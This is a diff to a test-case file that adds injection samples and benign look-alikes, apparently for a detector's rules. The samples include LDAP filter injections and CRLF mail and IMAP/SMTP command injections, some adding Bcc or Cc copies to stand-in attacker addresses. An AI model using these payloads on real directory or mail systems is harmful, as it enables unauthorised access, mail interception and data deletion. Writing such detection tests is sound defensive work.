@@ -7,8 +7,32 @@ from tests.rules.case import Case
 CASES: tuple[Case, ...] = (
     Case(
         "LDAPInjection",
-        ("admin)(|(password=*", "*)(uid=*))(|(uid=*", "john)(sn~=smith"),
-        ("(see above)", "Smith (née Jones)", "see chapter (2) notes"),
+        ("admin)(|(password=*", "*)(uid=*))(|(uid=*", "john)(sn~=smith", "admin*)((|userPassword=*)",
+         "x)(|(userAccountControl:1.2.840.113556.1.4.803:=2)", "admin))(|(|", "(objectClass=*)", "*))%00",
+         "*()|&'", "admin\\29\\28|\\28uid=*"),
+        ("(see above)", "Smith (née Jones)", "see chapter (2) notes", "f(x)(y) = (a*b)", "a*(b+c)",
+         "(cn) is the common name", ":-) (smile)"),
+    ),
+    Case(
+        "MailInjection",
+        ("victim@example.com\nCc: attacker@evil.example", "Subject\r\nBcc: x@evil.example",
+         "hi\r\nRCPT TO:<evil@x.example>", "x\r\nEHLO attacker.example", 'INBOX\r\na1 LIST "" "*"',
+         "x\r\nA2 FETCH 1:* (BODY[])", "u\r\nRETR 1", "x\r\nA3 LOGOUT"),
+        ("To: Berlin office", "Cc me on the reply", "Subject: re order 42", "Select INBOX folder",
+         "Fetch 1:* items", "mail from Tom"),
+    ),
+    Case(
+        "MailInjectionBody",
+        ("victim@example.com\nCc: attacker@evil.example", "Hello\r\nBcc: list@evil.example",
+         "Order 42\r\nContent-Transfer-Encoding: base64", "hi\r\nRCPT TO:<evil@x.example>",
+         "x\r\nA5 STORE 1 +FLAGS (\\Deleted)", 'x\r\nZ LOGIN "admin" "secret"'),
+        ("To: Berlin office", "Cc me on the reply", "Subject: re order 42", "2 Select your size",
+         "mail from Tom"),
+    ),
+    Case(
+        "MailBodyInHeader",
+        ("Question\r\n\r\nInjected body text",),
+        ("one line", "Question about the order"),
     ),
     Case(
         "Log4JRCE",
